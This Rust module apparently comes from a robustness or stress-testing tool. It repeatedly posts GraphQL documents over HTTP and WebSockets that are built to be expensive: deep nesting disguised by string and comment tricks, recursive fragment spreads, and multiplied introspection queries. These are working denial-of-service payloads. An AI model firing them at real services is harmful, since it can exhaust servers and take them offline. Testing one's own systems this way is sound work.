//! Documents that are small and cost much.

use futures_util::{SinkExt, StreamExt};
use rand::{Rng, rngs::StdRng, seq::IndexedRandom};
use serde_json::json;
use tokio_tungstenite::{
    client_async,
    tungstenite::{Message, client::IntoClientRequest, http::HeaderValue},
};

use super::client::Attacker;

/// Bytes of a body that are read at all.
const LONGEST: usize = 30_000;

/// Posts documents one after the other, to the API and to the explorer.
pub(super) async fn post(mut attacker: Attacker, document: fn(&mut StdRng) -> String) {
    loop {
        let body = json!({ "query": document(&mut attacker.dice) }).to_string();
        let to = if attacker.dice.random() { attacker.targets.api } else { attacker.targets.explorer };
        // A refused connection or a limit is the target's right.
        let _ = attacker.post(to, "/graphql", &body).await;
    }
}

/// Sends all kinds of documents over WebSockets.
pub(super) async fn send(mut attacker: Attacker) {
    loop {
        let Ok(stream) = attacker.connect(attacker.targets.api).await else { continue };
        let Ok(mut request) = format!("ws://{}/graphql", attacker.targets.api).into_client_request() else {
            return;
        };
        let protocol = HeaderValue::from_static("graphql-transport-ws");
        request.headers_mut().insert("sec-websocket-protocol", protocol);
        let Ok((mut socket, _)) = client_async(request, stream).await else { continue };
        let _ = socket.send(Message::text(r#"{"type":"connection_init"}"#)).await;
        for id in 0..20 {
            let dice = &mut attacker.dice;
            let document = match dice.random_range(0..3) {
                0 => nested(dice),
                1 => fragments(dice),
                _ => introspection(dice),
            };
            let message =
                json!({ "id": id.to_string(), "type": "subscribe", "payload": { "query": document } });
            if socket.send(Message::text(message.to_string())).await.is_err() {
                break;
            }
        }
        while let Some(Ok(_)) = socket.next().await {}
    }
}

/// Deep nesting behind something that a reader may take for a string, a comment or neither.
pub(super) fn nested(dice: &mut StdRng) -> String {
    const VEILS: [&str; 7] = [
        "\"\"\" \" \"\"\"",
        "\"\"\" \\\"\"\" \"\"\"",
        "\"\\\\\"",
        "1 # \r",
        "1 # \" \r\n",
        "\"#\"",
        "\u{feff}1",
    ];
    const PAIRS: [(&str, &str); 5] = [("[", "]"), ("{a:", "}"), ("{a ", "}"), ("...{", "}"), ("(a:[", "])")];
    let veil = VEILS.choose(dice).copied().unwrap_or_default();
    let (open, close) = PAIRS.choose(dice).copied().unwrap_or_default();
    let levels = dice.random_range(1..LONGEST / (open.len() + close.len()));
    format!("{{ balance(a: {veil} address: {}1{}) }}", open.repeat(levels), close.repeat(levels))
}

/// Fragments that spread each other many times, or in circles.
pub(super) fn fragments(dice: &mut StdRng) -> String {
    let (levels, times) = (dice.random_range(2..60), dice.random_range(1..20));
    let kind = if dice.random() { "Query" } else { "__Type" };
    let mut document =
        if dice.random() { "{ ...f0 }".to_owned() } else { "{ chain { chainId } }".to_owned() };
    for level in 0..levels {
        let next = if dice.random_ratio(1, 20) { dice.random_range(0..levels) } else { level + 1 };
        document.push_str(&format!(
            " fragment f{level} on {kind} {{ {} }}",
            format!("...f{next} ").repeat(times)
        ));
        if document.len() > LONGEST {
            break;
        }
    }
    document + &format!(" fragment f{levels} on {kind} {{ __typename }}")
}

/// Questions about the schema that multiply.
pub(super) fn introspection(dice: &mut StdRng) -> String {
    let levels = dice.random_range(1..7);
    let leaves = "name description __typename ".repeat(dice.random_range(1..200));
    let inner = "fields { args { type { name } } type { ofType { ".repeat(levels)
        + &leaves
        + &" } } }".repeat(levels);
    let roots = dice.random_range(1..30);
    (0..roots).fold("{ ".to_owned(), |document, root| {
        if document.len() > LONGEST {
            document
        } else {
            document + &format!("a{root}: __schema {{ types {{ {inner} }} }} ")
        }
    }) + "}"
}
